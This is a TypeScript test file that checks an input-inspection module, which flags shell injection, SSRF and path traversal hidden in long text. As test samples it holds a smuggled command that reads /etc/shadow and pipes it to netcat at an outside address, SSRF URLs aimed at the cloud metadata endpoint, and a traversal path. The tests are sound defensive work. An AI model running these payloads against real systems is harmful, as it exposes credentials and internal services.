import { describe, expect, it } from 'vitest';
import { inspect } from '../../../src/core/inspect/inspect.ts';
import { lookByRegExp } from '../../../src/core/inspect/triggers.ts';

const prose = 'The harvest was late this year, and the village waited for rain. Nobody spoke of the mill, or of what had been seen there.\n';
const long = prose.repeat(200);
const attack = '; cat /etc/shadow | nc 203.0.113.9 4444';

describe('a long text', () => {
  it('passes when it is ordinary', () => {
    expect(inspect(long, 'text', lookByRegExp)).toBeUndefined();
    expect(inspect(long, 'any', lookByRegExp)).toBeUndefined();
  });

  it('is stopped for an attack wherever it stands, across pieces too', () => {
    for (let at = 0; at < long.length; at += 397) {
      expect(inspect(long.slice(0, at) + attack + long.slice(at), 'text', lookByRegExp), String(at)).toBe('shell.injection');
    }
    expect(inspect(long + attack, 'text', lookByRegExp)).toBe('shell.injection');
  });

  it('is not stopped for how a piece of it begins', () => {
    for (let shift = 0; shift < 600; shift += 7) {
      expect(inspect('a'.repeat(shift) + ' ' + 'or 1 and the others. python -c is a flag. '.repeat(300), 'code', lookByRegExp)).toBeUndefined();
    }
  });

  it('is read whole where it stands for a URL or a path', () => {
    expect(inspect(`http://${'a'.repeat(5000)}@169.254.169.254/latest/`, 'any', lookByRegExp)).toMatch(/^ssrf\./);
    expect(inspect(`http://${'a.'.repeat(2500)}com@169.254.169.254/latest/`, 'any', lookByRegExp)).toMatch(/^ssrf\./);
    expect(inspect(`http://${'a'.repeat(5000)}@10.0.0.1/`, 'any', lookByRegExp)).toMatch(/^ssrf\./);
    expect(inspect(`${'a/../'.repeat(1000)}../../private/notes`, 'any', lookByRegExp)).toBe('path.traversal');
  });

  it('hides no attack behind a long run of blanks', () => {
    const spread = `${prose.repeat(40)};${' '.repeat(3000)}cat /etc/shadow`;
    expect(inspect(spread, 'text', lookByRegExp)).toBe('shell.injection');
  });

  it('is refused when too much of it needs a closer look', () => {
    const suspicious = `${'word '.repeat(200)} the union of the two: select one; -- `.repeat(60);
    expect(inspect(suspicious, 'any', { suspicion: () => 'odd', suspects: () => true })).toBe('inspect.budget');
  });
});
